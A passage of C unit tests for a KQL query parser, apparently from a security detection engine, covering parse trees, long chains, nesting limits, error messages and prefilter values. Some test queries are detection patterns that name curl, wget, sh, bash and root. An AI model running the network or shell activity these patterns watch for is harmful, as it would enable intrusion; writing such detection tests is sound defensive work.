	    {"process.command_line.text: curl", "{\"process\":{\"command_line\":\"CURL -s\"}}", 1},
	};
	run_kql_cases(builtin, sizeof(builtin) / sizeof(builtin[0]));
}

struct tree_case {
	const char *query, *tree;
};

static const struct tree_case trees[] = {
    {"a:b", "is(a, b)"},
    {"a:b or c:d and e:f", "or(is(a, b), and(is(c, d), is(e, f)))"},
    {"not a:b and c:d", "and(not(is(a, b)), is(c, d))"},
    {"a:(b or c and not d)", "is(a, or(b, and(c, not(d))))"},
    {"a:*", "exists(a)"},
    {"a:b*c", "is(a, b*c)"},
    {"a:b\\*c", "is(a, b\\*c)"},
    {"a:\"b*c\"", "is(a, \"b*c\")"},
    {"a.*:x", "is(a.*, x)"},
    {"a >= 5", "range(a >= 5#)"},
    {"a<\"x y\"", "range(a < \"x y\")"},
    {"a:{ b:c and d:e }", "nested(a, and(is(b, c), is(d, e)))"},
    {"hello world", "text(hello world)"},
    {"a:  spaced value  ", "is(a, spaced value)"},
    {"a:42", "is(a, 42#)"},
    {"a:x and\n  b:y", "and(is(a, x), is(b, y))"},
    {"a:andy", "is(a, andy)"}, /* keywords need whitespace around them */
    {"a:x or_more", "is(a, x or_more)"},
    {"orange:x", "is(orange, x)"},
    {"not_a:x", "is(not_a, x)"},
    {"a:\\or", "is(a, or)"},
    {"a:x AnD b:y", "and(is(a, x), is(b, y))"},
    {"a:b and", "is(a, b and)"},
    {"not", "text(not)"},
    /* "not" alone is a word */ /* "and" needs whitespace after it too */
    {"", "all"},
};

static void test_parse_trees(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(trees) / sizeof(trees[0]); i++) {
		struct kql_error err;
		struct kql_node *q = kql_parse(trees[i].query, &err);
		if (!q)
			fail_msg("%s: %s", trees[i].query, err.msg);
		struct strbuf sb;
		strbuf_init(&sb, 64);
		kql_to_string(q, &sb);
		if (strcmp(sb.buf, trees[i].tree))
			fail_msg("%s: got %s, want %s", trees[i].query, sb.buf, trees[i].tree);
		strbuf_release(&sb);
		kql_free(q);
	}
}

/* Length, not only depth: a 20,000-term or (of clauses, and of values) overflowed the stack in
 * kql_needles and in evaluation. The chain is a balanced tree now; its answers are the same. */
static void test_long_chains(void **state)
{
	(void)state;
	for (int values = 0; values < 2; values++) {
		struct strbuf q;
		strbuf_init(&q, 1 << 20);
		if (values)
			strbuf_addstr(&q, "process.name:(");
		for (int i = 0; i < 20000; i++)
			strbuf_addf(&q, values ? "%sp%d" : "%sprocess.name:p%d", i ? " or " : "", i);
		if (values)
			strbuf_addstr(&q, ")");
		struct kql_error err;
		struct kql_node *n = kql_parse(q.buf, &err);
		assert_non_null(n);
		cJSON *hit = cJSON_Parse("{\"process\":{\"name\":\"p19999\"}}");
		cJSON *miss = cJSON_Parse("{\"process\":{\"name\":\"p20000\"}}");
		assert_int_equal(kql_match(n, hit), 1);
		assert_int_equal(kql_match(n, miss), 0);
		struct needles nd;
		kql_needles(n, &nd);
		assert_int_equal(nd.usable, 0); /* more than NEEDLES_MAX alternatives */
		needles_release(&nd);
		struct strbuf text;
		strbuf_init(&text, 1 << 20);
		kql_to_string(n, &text);
		assert_int_equal(tu_count(text.buf, "p1999"), 11);
		strbuf_release(&text);
		cJSON_Delete(hit);
		cJSON_Delete(miss);
		kql_free(n);
		strbuf_release(&q);
	}
	/* and the order of a short chain's tree is kept */
	struct kql_error err;
	struct kql_node *n = kql_parse("a:1 or b:2 or c:3 and d:4", &err);
	struct strbuf text;
	strbuf_init(&text, 128);
	kql_to_string(n, &text);
	assert_string_equal(text.buf, "or(is(a, 1#), or(is(b, 2#), and(is(c, 3#), is(d, 4#))))");
	strbuf_release(&text);
	kql_free(n);
}

static const struct tu_syntax_error errors[] = {
    {"a:b and ", 9, "expected a field or value but the query ended"},
    {"not not a:b", 5, "expected a field or value but found 'n'"},
    {"a:(b or c", 10, "expected ')' or 'and', 'or' but the query ended"},
    {"a:\"unclosed", 12, "expected a closing '\"' but the query ended"},
    {"(a:b", 5, "expected ')' or 'and', 'or' but the query ended"},
    {"a:b)", 4, "expected 'and', 'or' or the end of the query but found ')'"},
    {"a:{b:c", 7, "expected '}' or 'and', 'or' but the query ended"},
    {"a:b c:d", 6, "expected 'and', 'or' or the end of the query but found ':'"},
    {":b", 1, "expected a field or value but found ':'"},
    {"a:", 3, "expected a field or value but the query ended"},
    {"sp:two\\ words", 7, "bad escape: '\\' must be followed by one of \\():<>\"*{} , t r n, uXXXX, or a keyword"},
    {"a: cannot stop", 7, "expected 'and', 'or' or the end of the query but found 'n'"},
    {"not ", 5, "expected a field or value but the query ended"},
};

static void *parse_query(const char *text, struct kql_error *err)
{
	return kql_parse(text, err);
}

static void free_query(void *q)
{
	kql_free(q);
}

/* The values the column prefilter may test: an and-ed clause's plain literals, never a
 * wildcard, a negation, an or across fields, or another field's. */
static void test_required_values(void **state)
{
	(void)state;
	static const struct {
		const char *query, *want; /* want: the values joined by '|', or NULL for none */
	} required[] = {
	    {"process.name:curl", "curl"},
	    {"event.category:process and process.name:(sh or \"z sh\" or bash)", "sh|z sh|bash"},
	    {"process.name:cu*", NULL},
	    {"process.name:(curl or cu*)", NULL},
	    {"not process.name:curl", NULL},
	    {"process.name:curl or user.name:root", NULL},
	    {"process.name:(curl and wget)", NULL},
	    {"process.name.caseless:curl", NULL},
	    {"user.name:root and (process.name:a or process.name:b)", NULL},
	    {"process.name:true", NULL},
	    {"a:1 and b:2 and c:3 and process.name:x", "x"},
	};
	for (size_t i = 0; i < sizeof(required) / sizeof(required[0]); i++) {
		struct kql_error err;
		struct kql_node *q = kql_parse(required[i].query, &err);
		assert_non_null(q);
		char **values;
		size_t n;
		int found = kql_required_values(q, "process.name", &values, &n);
		struct strbuf got;
		strbuf_init(&got, 32);
		for (size_t k = 0; found && k < n; k++) {
			strbuf_addf(&got, "%s%s", k ? "|" : "", values[k]);
			free(values[k]);
		}
		if (found)
			free(values);
		if (required[i].want ? !found || strcmp(got.buf, required[i].want) : found)
			fail_msg("%s: got %s", required[i].query, found ? got.buf : "(none)");
		strbuf_release(&got);
		kql_free(q);
	}
}

static void test_syntax_errors(void **state)
{
	(void)state;
	tu_expect_syntax_errors(errors, sizeof(errors) / sizeof(errors[0]), parse_query, free_query);
	/* nesting is bounded, not left to the stack (50,000 levels overflowed it) */
	static const char *const openers[] = {"(", "(x or ", "not ("};
	static const char *const starts[] = {"", "a:", ""}, *const ends[] = {"a:b", "b", "a:b"};
	for (size_t k = 0; k < 3; k++) {
		struct strbuf deep;
		strbuf_init(&deep, 500000);
		strbuf_addstr(&deep, starts[k]);
		for (int i = 0; i < 50000; i++)
			strbuf_addstr(&deep, openers[k]);
		strbuf_addstr(&deep, ends[k]);
		struct kql_error e;
		assert_null(kql_parse(deep.buf, &e));
		assert_string_equal(e.msg, "queries nested deeper than 200 levels");
		strbuf_release(&deep);
	}
	struct kql_error err;
	assert_null(kql_parse("a:(b or c", &err));
	struct strbuf sb;
	strbuf_init(&sb, 64);
	kql_error_format("a:(b or c", &err, &sb);
	assert_string_equal(sb.buf, "KQL syntax error at column 10: expected ')' or 'and', 'or' but the query ended\n"
	                            "    a:(b or c\n"
	                            "             ^\n");
	strbuf_release(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_kql_cases),       cmocka_unit_test(test_parse_trees),
	    cmocka_unit_test(test_long_chains),     cmocka_unit_test(test_syntax_errors),
	    cmocka_unit_test(test_required_values), cmocka_unit_test(test_mapped_numbers),
	    cmocka_unit_test(test_multi_fields),    cmocka_unit_test(test_builtin_multi_fields),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
